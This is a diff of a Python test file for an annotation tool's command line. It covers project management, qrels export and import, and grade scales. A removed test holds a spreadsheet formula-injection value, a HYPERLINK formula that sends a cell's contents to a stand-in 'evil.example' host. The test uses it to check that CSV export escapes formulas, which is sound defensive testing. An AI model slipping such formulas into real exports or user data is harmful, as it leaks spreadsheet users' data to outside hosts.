@@ -1,15 +1,12 @@
 """Annotation from the command line, as a script drives it."""
 
-import csv
-import io
 import json
 from math import log2
 
 import pytest
 
-from engine.types.annotating import Judgment
 from engine.types.corpora import ImportRequest
-from tests.cli.command_line import assert_refused, run_inside, run_json, run_process
+from tests.cli.command_line import assert_refused, run_inside, run_json
 from tests.fakes.small_corpus import DOCUMENTS
 from tests.support import make_explorer, write_jsonl
 
@@ -140,17 +137,6 @@ def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(corpus,
     assert_refused(run_inside(corpus, "project", "copy", "small", "r", "q"), "project 'q' already")
 
 
-def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus):
-    formula = '=HYPERLINK("https://evil.example?"&A1)'
-    run_json(corpus, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
-    export = ("qrels", "export", "small", "--per-annotator", "--format", "csv")
-    notes = []
-    for more in ((), ("--spreadsheet",)):
-        table = run_inside(corpus, *export, *more).stdout
-        notes += [row["note"] for row in csv.DictReader(io.StringIO(table))]
-    assert notes == [formula, f"'{formula}"]
-
-
 def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(corpus, tmp_path):
     judge(corpus, 3, "ann")
     judge(corpus, 0, "ann", "maps-survey")
@@ -215,12 +201,3 @@ def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus, tmp_path):
     scale.write_text('[[0, "No"], [1, "Yes", "all of it"]]')
     changed = run_json(corpus, *change, "--scale", scale)
     assert changed["scale"]["grades"][1]["meaning"] == "all of it"
-
-
-def test_the_command_judges_beside_an_open_app_and_each_sees_the_other(corpus):
-    annotation = make_explorer(corpus).annotation
-    project = annotation.project("small")
-    annotation.judge(project, Judgment(QUERY, "bread-network", "ann", 1))
-    there = run_process(corpus, "judge", "small", *ITEM, "--grade", 3, "--annotator", "bob")
-    assert there.code == 0, there.stderr
-    assert {j.annotator: j.relevance for j in annotation.judgments(project)} == {"ann": 1, "bob": 3}
